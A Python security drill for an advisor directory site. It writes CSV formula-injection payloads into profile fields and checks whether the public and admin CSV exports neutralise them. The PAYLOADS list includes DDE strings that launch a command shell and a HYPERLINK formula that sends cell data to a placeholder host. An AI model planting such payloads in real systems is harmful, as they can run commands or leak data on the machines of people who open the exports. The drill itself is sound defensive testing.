"""Formula injection (audit 18.1): payloads that a spreadsheet would run are written into every
free-text field an advisor writes (introspected from the self-service profile form, on a
published profile) and into a verification reason; then the public CSV export and every admin
CSV export (advisors, verification log, import log, one of Wagtail's own reports) are fetched —
the admin ones signed in as staff with TOTP — and every cell is read. A cell that starts with
= + - @ TAB or CR (or their full-width forms) is a breach; so is a payload that did not arrive."""

import csv
import io

from drills import accounts
from drills.report import Check
from drills.site import BASE

DRILL = "formulas"
PAYLOADS = [
    '=HYPERLINK("https://drill.invalid/?"&A1;"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
]
# Kept apart from core.spreadsheets on purpose: the drill is an outside check of that list.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ADMIN_EXPORTS = [
    "/admin/snippets/directory/advisor/?export=csv",
    "/admin/directory/verificationevent/?export=csv",
    "/admin/snippets/directory/importrun/?export=csv",
    "/admin/reports/locked/?export=csv",
]


def plant():
    """The payloads in each free-text field of a published profile, cycling; returns the advisor."""
    from directory.models import Advisor, AdvisorStatus, VerificationEvent
    from directory.search import sync
    from directory.selfservice.forms import ProfileForm
    from drills.xss import _text_fields

    advisor = Advisor.objects.filter(status=AdvisorStatus.PUBLISHED).order_by("pk").first()
    fields = [f for f in _text_fields(ProfileForm) if f.name not in ("postcode", "website")]
    for n, field in enumerate(fields):
        setattr(advisor, field.name, PAYLOADS[n % len(PAYLOADS)][: field.max_length or None])
    advisor.save()
    VerificationEvent.objects.create(
        advisor=advisor, from_status=advisor.status, to_status=advisor.status, reason=PAYLOADS[0]
    )
    sync.drain()
    return advisor, len(fields)


def cells(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row]


def run(site):
    check = Check("drill", "formula injection in CSV exports")
    advisor, planted = plant()
    public = site.client(DRILL, "192.0.2.60")
    staff = site.client(DRILL, "192.0.2.61")
    signed_in, _ = accounts.sign_in_staff(site, staff, *accounts.staff("drill-formulas"))
    if not signed_in:
        check.breach("staff login for the admin exports failed")
    files = [("/berater/export.csv", public, ";")] + [(url, staff, ",") for url in ADMIN_EXPORTS]
    read, arrived, dangerous = 0, 0, []
    for url, session, delimiter in files:
        response = session.get(BASE + url, timeout=60)
        if response.status_code != 200:
            check.breach(f"{url} answered {response.status_code}")
            continue
        found = cells(response.content.decode("utf-8"), delimiter)
        read += len(found)
        arrived += sum(cell.lstrip("'") in [p.lstrip("'") for p in PAYLOADS] for cell in found)
        dangerous += [(url, cell[:30]) for cell in found if cell.startswith(STARTS)]
    check.requests, check.server_errors = site.requests_of(DRILL)
    check.findings = {"formula cells": len(dangerous)}
    check.figures = (
        f"{planted} fields + 1 reason planted; {len(files)} files, {read} cells read, {arrived} payloads found"
    )
    if arrived < planted:
        check.breach(
            f"only {arrived} payload cells arrived in the exports (expected ≥ {planted}): the drill saw nothing"
        )
    for url, cell in dangerous[:10]:
        check.breach(f"{url}: cell starts a formula: {cell!r}")
    return check
